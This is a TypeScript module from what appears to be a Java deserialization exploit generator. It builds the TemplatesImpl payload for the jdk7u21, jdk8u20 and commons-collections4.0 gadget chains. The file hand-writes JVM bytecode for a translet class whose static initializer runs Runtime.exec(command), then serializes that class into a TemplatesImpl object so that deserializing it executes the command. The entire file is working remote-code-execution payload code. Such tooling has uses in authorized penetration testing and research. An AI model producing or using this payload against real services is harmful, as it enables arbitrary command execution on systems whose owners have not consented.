/**
 * The TemplatesImpl payload of the jdk7u21, jdk8u20 and commons-collections4.0 gadgets: a serialized
 * com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl (the JDK's compiled XSLT stylesheet)
 * whose bytecode is a class keyhole writes. Asking it for a transformer (newTransformer, or
 * getOutputProperties, which calls it) defines that class and instantiates it, and the class's static
 * initializer runs `Runtime.getRuntime().exec(command)`.
 */
import { ACC_PUBLIC, ACC_STATIC, ACC_SUPER, index16, OPCODE, writeClassFile } from './java-class-file.js';
import { JDK, TEMPLATES_IMPL_FORMS } from './java-classes.js';
import { type ClassDescriptor, JavaObjectStream } from './java-serialization.js';

const ABSTRACT_TRANSLET = 'com/sun/org/apache/xalan/internal/xsltc/runtime/AbstractTranslet';
const DOM = 'Lcom/sun/org/apache/xalan/internal/xsltc/DOM;';
const DTM_AXIS_ITERATOR = 'Lcom/sun/org/apache/xml/internal/dtm/DTMAxisIterator;';
const SERIALIZATION_HANDLER = 'Lcom/sun/org/apache/xml/internal/serializer/SerializationHandler;';

/**
 * The translet's class. Its package is the one TemplatesImpl gives the module it defines translets in
 * since JDK 9 (XSLTC's default package name): a class there may extend AbstractTranslet, which
 * java.xml exports to that module only. In any other package the class fails to load on JDK 9 and
 * later; JDK 8 and before accept any.
 */
export const TRANSLET_CLASS = 'die/verwandlung/KeyholeTranslet';

/**
 * The class file of a translet whose static initializer runs `command` with Runtime.exec(String),
 * which splits it at white space. The transform methods AbstractTranslet declares abstract do nothing.
 */
export function transletClass(command: string): Buffer {
  return writeClassFile({
    name: TRANSLET_CLASS,
    superclass: ABSTRACT_TRANSLET,
    access: ACC_PUBLIC | ACC_SUPER,
    methods: (pool) => [
      {
        access: ACC_STATIC,
        name: '<clinit>',
        descriptor: '()V',
        maxStack: 2,
        maxLocals: 0,
        code: [
          OPCODE.invokestatic,
          ...index16(pool.methodRef('java/lang/Runtime', 'getRuntime', '()Ljava/lang/Runtime;')),
          OPCODE.ldc_w,
          ...index16(pool.string(command)),
          OPCODE.invokevirtual,
          ...index16(pool.methodRef('java/lang/Runtime', 'exec', '(Ljava/lang/String;)Ljava/lang/Process;')),
          OPCODE.pop,
          OPCODE.return,
        ],
      },
      {
        access: ACC_PUBLIC,
        name: '<init>',
        descriptor: '()V',
        maxStack: 1,
        maxLocals: 1,
        code: [
          OPCODE.aload_0,
          OPCODE.invokespecial,
          ...index16(pool.methodRef(ABSTRACT_TRANSLET, '<init>', '()V')),
          OPCODE.return,
        ],
      },
      {
        access: ACC_PUBLIC,
        name: 'transform',
        descriptor: `(${DOM}[${SERIALIZATION_HANDLER})V`,
        maxStack: 0,
        maxLocals: 3,
        code: [OPCODE.return],
      },
      {
        access: ACC_PUBLIC,
        name: 'transform',
        descriptor: `(${DOM}${DTM_AXIS_ITERATOR}${SERIALIZATION_HANDLER})V`,
        maxStack: 0,
        maxLocals: 4,
        code: [OPCODE.return],
      },
    ],
  });
}

export type TemplatesImplForm = keyof typeof TEMPLATES_IMPL_FORMS;

/**
 * Writes a TemplatesImpl holding the translet, with its fields as the JDK of `form` writes them, and
 * gives its handle.
 * `_name` must not be null (a nameless TemplatesImpl makes no transformer) and `_transletIndex`
 * is -1 (found when the classes are defined).
 */
export function writeTemplatesImpl(
  stream: JavaObjectStream,
  command: string,
  form: TemplatesImplForm,
): number {
  const descriptor: ClassDescriptor = TEMPLATES_IMPL_FORMS[form];
  const translet = transletClass(command);
  const nothing = (s: JavaObjectStream) => s.null();
  const values: Record<string, (s: JavaObjectStream) => void> = {
    _indentNumber: (s) => s.i32(0),
    _transletIndex: (s) => s.i32(-1),
    _bytecodes: (s) => s.array(JDK.byteArrayArray, [(bytes) => bytes.byteArray(JDK.byteArray, translet)]),
    _class: nothing,
    _name: (s) => s.string('keyhole'),
    _outputProperties: nothing,
  };
  if (form !== 'current') {
    values._useServicesMechanism = (s) => s.boolean(false);
    values._auxClasses = nothing;
  }
  if (form === 'jdk8') values._accessExternalStylesheet = (s) => s.string('all');
  stream.object(descriptor);
  const handle = stream.lastHandle;
  stream.fields(descriptor, values);
  // TemplatesImpl.writeObject: whether a serializable URIResolver follows (none)
  stream.blockData((block) => block.u8(0)).endBlockData();
  return handle;
}

/** A stream holding only the TemplatesImpl, for a reader that calls newTransformer() itself. */
export function templatesImplAlone(command: string, form: TemplatesImplForm = 'current'): Buffer {
  const stream = new JavaObjectStream();
  writeTemplatesImpl(stream, command, form);
  return stream.toBuffer();
}
